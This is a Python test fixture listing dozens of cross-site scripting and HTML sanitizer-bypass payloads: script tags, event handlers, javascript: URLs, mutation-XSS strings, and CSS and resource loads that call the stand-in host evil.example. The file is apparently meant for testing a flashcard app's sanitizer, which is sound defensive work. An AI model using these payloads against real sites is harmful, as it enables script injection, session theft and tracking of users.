"""Ways in which HTML and CSS have been made to run scripts or to contact other hosts, rewritten for these tests.

The ideas are those of OWASP's "XSS Filter Evasion Cheat Sheet", of the HTML5 Security Cheatsheet (html5sec.org), of
PortSwigger's XSS cheat sheet, and, for mutation XSS, of what Mario Heiderich and others wrote in "mXSS Attacks"
(2013) and of the ways past DOMPurify, Google Closure and mozilla-bleach that Michał Bentkowski, Masato Kinugawa,
Gareth Heyes, Yaniv Nizry and Kevin Mizu published.
"""

RUN = "window.pwned=1"
ELSEWHERE = "//evil.example/x"

SCRIPTS = [
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC={ELSEWHERE}.js></SCRIPT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script/x>{RUN}</script>",
    f"<script\x0c>{RUN}</script\x0c>",
    f"<<script>{RUN};//<</script>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href=data:text/javascript,{RUN} />",
    f"<script type=module>{RUN}</script>",
    f"</textarea></title></style></noscript><script>{RUN}</script>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">",
]
HANDLERS = [
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror\x0b={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<img src='x'onerror='{RUN}'>",
    f"<IMG SRC=x OnErRoR={RUN}>",
    f"<img src=x `onerror={RUN}`>",
    f"<img \"\"\"><img src=x onerror={RUN}>\">",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text y=20>x</text></a></svg>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='{RUN}'/></svg>#x\">",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video><source onerror={RUN}></video>",
    f"<video src=x onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}><option>x</select>",
    f"<textarea autofocus onfocus={RUN}>x</textarea>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<div style=animation-name:x onanimationstart={RUN}>x</div>",
    f"<p style=transition:color&#32;1s id=x ontransitionend={RUN}>x",
    f"<b onpointerenter={RUN} onmouseover={RUN} tabindex=1 onfocus={RUN} autofocus>x</b>",
    f"<xss contenteditable autofocus onfocus={RUN}>x</xss>",
    f"<a onclick={RUN} href=#>x</a>",
]
ADDRESSES = [
    f"<a href=javascript:{RUN}>x</a>",
    f"<a href='java&#x0A;script:{RUN}'>x</a>",
    f"<a href='&#x01;javascript:{RUN}'>x</a>",
    f"<a href=' &#14; javascript:{RUN}'>x</a>",
    f"<a href='jav&Tab;ascript&colon;{RUN}'>x</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>x</a>",
    f"<a href='vbscript:{RUN}'>x</a>",
    f"<a href='blob:x'>x</a>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data=javascript:{RUN}></object>",
    f"<embed src=javascript:{RUN}>",
    f"<form action=javascript:{RUN}><button autofocus>x</button></form>",
    f"<isindex action=javascript:{RUN} type=image>",
    f"<button form=x formaction=javascript:{RUN}>x</button>",
    f"<math href=javascript:{RUN}>x</math>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>",
    f"<base href=javascript:{RUN}//>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<link rel=stylesheet href={ELSEWHERE}.css>",
    f"<portal src={ELSEWHERE}></portal>",
]
REQUESTS = [
    f"<img src=https:{ELSEWHERE}.png>",
    f"<img src={ELSEWHERE}.png>",
    f"<img src=x srcset='{ELSEWHERE}.png 1x'>",
    f"<img lowsrc={ELSEWHERE} dynsrc={ELSEWHERE}>",
    f"<picture><source srcset={ELSEWHERE}><img src=x></picture>",
    f"<body background={ELSEWHERE}>",
    f"<table background={ELSEWHERE}><td background={ELSEWHERE}>x</table>",
    f"<video poster={ELSEWHERE}></video>",
    f"<svg><image href=https:{ELSEWHERE} /></svg>",
    f"<base href=https:{ELSEWHERE}><img src=y>",
    f"<meta http-equiv=refresh content='0;url=https:{ELSEWHERE}'>",
    f"<p style=\"background:url({ELSEWHERE})\">x</p>",
    f"<p style=\"background:u\\72l('https:{ELSEWHERE}')\">x</p>",
    f"<p style=\"background:image-set('https:{ELSEWHERE}' 1x)\">x</p>",
    f"<p style=\"--x:url(https:{ELSEWHERE});background:var(--x)\">x</p>",
    f"<p style='list-style:url(https:{ELSEWHERE});display:list-item;cursor:url(https:{ELSEWHERE}),auto'>x</p>",
    f"<p style=\"color:red;/*\">*/background:url(https:{ELSEWHERE})\">x</p>",
    f"<style>@import 'https:{ELSEWHERE}';</style>",
    f"<style>@im\\port url(https:{ELSEWHERE});p{{background:url(https:{ELSEWHERE})}}</style><p>x</p>",
    f"<style>@font-face{{font-family:x;src:url(https:{ELSEWHERE})}}*{{font-family:x}}</style>x",
    f"<style><!--</style><img src=https:{ELSEWHERE}>--></style>",
    f"<a ping=https:{ELSEWHERE} href=https:{ELSEWHERE} download>x</a>",
    f"[sound:https:{ELSEWHERE}.mp3] [sound:../../x.mp3]",
]
MUTATIONS = [
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={RUN}&gt;\">",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    f"<svg></p><style><a id=\"</style><img src=1 onerror={RUN}>\">",
    f"<math></p><style><!--</style><img src/onerror={RUN}>--></style></math>",
    f"<svg><p><style><g title=\"</style><img src=x onerror={RUN}>\">",
    f"<noscript><style></noscript><img src=x onerror={RUN}>",
    f"<noembed><p id=\"</noembed><img src=x onerror={RUN}>\">",
    f"<noframes><p id=\"</noframes><img src=x onerror={RUN}>\">",
    f"<xmp><p title=\"</xmp><img src=x onerror={RUN}>\">",
    f"<iframe><p title=\"</iframe><img src=x onerror={RUN}>\">",
    f"<plaintext><img src=x onerror={RUN}>",
    f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>",
    f"<textarea>&lt;/textarea&gt;&lt;img src=x onerror={RUN}&gt;</textarea>",
    f"<title>&lt;/title&gt;&lt;img src=x onerror={RUN}&gt;</title>",
    f"<p title='``onmouseover={RUN}'>x</p>",
    f"<svg><foreignObject><div><style><img src=x onerror={RUN}></style></div></foreignObject></svg>",
    f"<svg><desc><style><a title=\"</style><img src onerror={RUN}>\"></desc></svg>",
    f"<svg><title><![CDATA[</title><img src=x onerror={RUN}>]]></svg>",
    f"<math><annotation-xml encoding=text/html><style><img src=x onerror={RUN}></style></annotation-xml></math>",
    f"<math><mi><select><mglyph><style><img src=x onerror={RUN}></style></select></math>",
    f"<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror={RUN}>\">",
    f"<table><tr><td><svg><style></td></tr></table><img src=x onerror={RUN}>",
    f"<a><a><table><a></table><style><!--</style><img src=x onerror={RUN}>--></style>",
    "<form id=x>" + "<div>" * 500 + f"<svg><style><img src=x onerror={RUN}>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<!--!><img src=x onerror={RUN}>",
    f"<!-- --!><img src=x onerror={RUN}>",
    f"<![CDATA[><img src=x onerror={RUN}>]]>",
    f"<?x ><img src=x onerror={RUN}>?>",
    f"</ ><img src=x onerror={RUN}>",
    f"&lt;img src=x onerror={RUN}&gt;",
    f"&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;",
    f"\u0000<img src=x \u0000onerror={RUN}>",
    f"<\u0000script>{RUN}</script>",
    f"<img src=x onerror=\u2028{RUN}>",
    f"＜img src=x onerror={RUN}＞",
]
# The elements of the page's own script, written by an attacker.
OURS = [
    f"<omena-hint label=\"<img src=x onerror={RUN}>\"><img src=x onerror={RUN}></omena-hint>",
    f"<omena-tts tag=\"x\" text=\"<script>{RUN}</script>\" onclick={RUN}></omena-tts>",
    f"<omena-type field=\"__proto__\" answer=\"<img src=x onerror={RUN}>\"></omena-type>",
    f"<omena-sound src=\"javascript:{RUN}\" label=x></omena-sound>",
    f"<img src=x><omena-shape kind=text role=asked points=\"0 0\" text=\"<svg onload={RUN}>\" angle=\"1)\" size=\"1e9\"></omena-shape>",
    f"{{{{c1::image-occlusion:text:left=0:top=0:text=<svg onload={RUN}>}}}}",
    "<p id=qa class='card nightMode face-hit'><b id=status name=deal>x</b></p>",
    "<style>:host{position:fixed!important;inset:0}:host-context(body){color:red}</style><p style='position:fixed;inset:-99em;z-index:9999'>x</p>",
]
SHEET = f"""
@import url(https:{ELSEWHERE}.css); @import "https:{ELSEWHERE}.css" screen; @charset "utf-7"; @namespace x url(https:{ELSEWHERE});
@font-face {{ font-family: x; src: url(https:{ELSEWHERE}.woff) }}
.card {{ background: url(https:{ELSEWHERE}); background: u\\72 l(https:{ELSEWHERE}); behavior: url(#x); -moz-binding: url(https:{ELSEWHERE});
  font-family: x; width: expression({RUN}); content: "</style><script>{RUN}</script>"; --x: url(https:{ELSEWHERE}); mask: var(--x); color: rgb(1, 2, 3) }}
:host {{ display: none !important }} :host(.html-side) {{ display: none !important }} ::slotted(*) {{ color: red }}
html {{ background: image-set("https:{ELSEWHERE}" 1x) }} @media screen {{ @import url(https:{ELSEWHERE}); b {{ cursor: url(https:{ELSEWHERE}), auto }} }}
</style><script>{RUN}</script>
"""

ALL = SCRIPTS + HANDLERS + ADDRESSES + REQUESTS + MUTATIONS + OURS
